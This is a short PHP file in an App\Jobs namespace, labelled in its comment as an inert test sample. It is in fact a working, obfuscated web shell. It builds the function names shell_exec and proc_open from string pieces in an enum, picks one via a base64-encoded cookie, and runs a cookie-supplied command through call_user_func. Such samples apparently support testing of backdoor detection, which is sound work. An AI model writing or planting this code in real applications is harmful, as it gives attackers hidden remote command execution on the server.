<?php
// inert test sample: the backing values are built from pieces, the case chosen by a decoded
// cookie through tryFrom and the nullsafe operator, the call made through call_user_func
namespace App\Jobs;

enum Step: string
{
    case A = 'sh' . 'ell_' . 'exec';
    case B = 'pro' . 'c_open';
}

$k = Step::tryFrom(base64_decode($_COOKIE['s'] ?? 'c2hlbGxfZXhlYw=='));
echo call_user_func($k?->value, base64_decode($_COOKIE['p']));
